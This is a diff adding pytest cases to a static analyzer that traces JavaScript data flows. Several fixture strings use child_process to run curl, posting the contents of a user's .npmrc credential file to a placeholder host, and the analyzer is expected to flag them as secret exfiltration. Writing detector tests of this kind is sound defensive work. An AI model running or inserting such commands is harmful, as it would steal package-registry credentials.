@@ -2,7 +2,7 @@
 
 import pytest
 
-from pratique.analysis.facts import Capability, Command
+from pratique.analysis.facts import Capability, Command, Taint
 from tests.analysis.languages.javascript.reading import (
     C,
     D,
@@ -13,6 +13,7 @@ from tests.analysis.languages.javascript.reading import (
     addresses,
     apis,
     facts,
+    flows,
     imported,
     uses,
 )
@@ -204,3 +205,29 @@ def test_another_default_is_nothing() -> None:
 def test_a_program_that_a_binding_starts_is_told_with_its_words(source: str) -> None:
     assert "sh -c id" in {argument for does, _, argument in uses(source) if does is P}
     assert ("id", ()) in {(command.program, command.arguments) for command in facts(source).commands}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "cp.spawnSync('curl', ['-d', fs.readFileSync('/home/a/.npmrc', 'utf8'), 'https://a.invalid'])",
+        "cp.exec(`curl -d \"${fs.readFileSync('/home/a/.npmrc')}\" https://a.invalid`)",
+    ],
+)
+def test_private_data_in_the_words_of_a_program_that_sends_is_sent(source: str) -> None:
+    found = flows("const cp = require('child_process'), fs = require('fs');" + source)
+    assert (N, "curl", {Taint.FILE, Taint.SECRETS}) in found
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "cp.spawnSync('tar', ['-d', fs.readFileSync('a')])",
+        "cp.exec(`curl -H 'x: ${process.env.API_TOKEN}' https://a.invalid`)",
+        "cp.spawn('curl', ['https://a.invalid'], {input: fs.readFileSync('a')})",
+    ],
+    ids=["no network", "a token to ask with", "options"],
+)
+def test_other_words_are_not(source: str) -> None:
+    found = flows("const cp = require('child_process'), fs = require('fs');" + source)
+    assert [] == [flow for flow in found if flow[0] is N]
